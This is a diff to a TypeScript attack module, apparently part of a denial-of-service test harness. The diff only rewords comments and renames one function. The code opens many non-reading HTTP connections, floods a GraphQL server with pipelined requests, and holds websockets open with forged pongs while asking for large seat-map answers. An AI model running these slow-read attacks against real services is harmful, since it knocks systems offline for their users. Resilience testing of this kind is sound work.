@@ -5,7 +5,7 @@ import { WebSocket } from 'ws';
 import type { Target } from './attacker.ts';
 import { ATTACKERS_ADDRESS } from './options.ts';
 
-/** As large as an answer is, and cheap to ask for. */
+/** A cheap query with a large answer. */
 function largeQuery(eventId: string): string {
   return `{ event(id: "${eventId}") { seatMap { sections { rows { seats { id label position { x y } } } } } } }`;
 }
@@ -18,7 +18,7 @@ function httpRequest({ graphqlUrl, eventId }: Target): string {
 }
 
 /** A connection that reads nothing. */
-async function mute({ graphqlUrl }: Target): Promise<Socket | null> {
+async function openSilent({ graphqlUrl }: Target): Promise<Socket | null> {
   const { hostname, port } = new URL(graphqlUrl);
   const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKERS_ADDRESS });
   socket.pause();
@@ -30,7 +30,7 @@ async function mute({ graphqlUrl }: Target): Promise<Socket | null> {
   return socket.on('error', () => {});
 }
 
-/** Until the time is up. Tells how many were closed by the server, as far as one who reads nothing can know it. */
+/** Holds the sockets until the time is up. Describes how many the server closed, as far as a non-reader can know. */
 async function hold(sockets: readonly (Socket | null)[], seconds: number, each: (socket: Socket) => void) {
   const untilMs = performance.now() + seconds * 1_000;
   const open = sockets.filter((socket) => socket !== null);
@@ -43,21 +43,21 @@ async function hold(sockets: readonly (Socket | null)[], seconds: number, each: 
   return `${open.length} of ${sockets.length} connections were opened, ${closed} of them closed by the server`;
 }
 
-/** 80 connections, each of which asks again every second. */
+/** 80 connections that send a query every second. */
 export async function unreadHttp(target: Target): Promise<string> {
-  const sockets = await Promise.all(Array.from({ length: 80 }, () => mute(target)));
+  const sockets = await Promise.all(Array.from({ length: 80 }, () => openSilent(target)));
   const request = httpRequest(target);
   return hold(sockets, target.seconds, (socket) => socket.write(request));
 }
 
-/** One connection, and 300 requests at once. */
+/** One connection with 300 pipelined requests. */
 export async function pipelined(target: Target): Promise<string> {
-  const socket = await mute(target);
+  const socket = await openSilent(target);
   socket?.write(httpRequest(target).repeat(300));
   return hold([socket], target.seconds, () => {});
 }
 
-/** A websocket that has said hello, and reads nothing more. */
+/** A websocket that reads nothing after `connection_ack`. */
 async function openWebsocket({ graphqlUrl }: Target): Promise<WebSocket | null> {
   const options = { localAddress: ATTACKERS_ADDRESS, autoPong: false };
   const socket = new WebSocket(graphqlUrl.replace('http', 'ws'), 'graphql-transport-ws', options);
@@ -88,7 +88,7 @@ function endWebsockets(sockets: readonly WebSocket[], wanted: number): string {
   return `${sockets.length} of ${wanted} websockets were opened, ${closed} of them closed by the server`;
 }
 
-/** Ten websockets, each with 400 operations whose texts all differ, of which a hundred at a time run. */
+/** Ten websockets with 400 different operations each, a hundred of them in flight. */
 export async function silentWebsockets(target: Target): Promise<string> {
   const sockets = await openWebsockets(target, 10);
   const documents = 400;
@@ -105,7 +105,7 @@ export async function silentWebsockets(target: Target): Promise<string> {
   return endWebsockets(sockets, 10);
 }
 
-/** Twenty websockets that ask for much, read nothing, and send pongs as if they had read the pings. */
+/** Twenty websockets that read nothing, and send pongs as if they did. */
 export async function guessedPongs(target: Target): Promise<string> {
   const sockets = await openWebsockets(target, 20);
   const query = largeQuery(target.eventId);
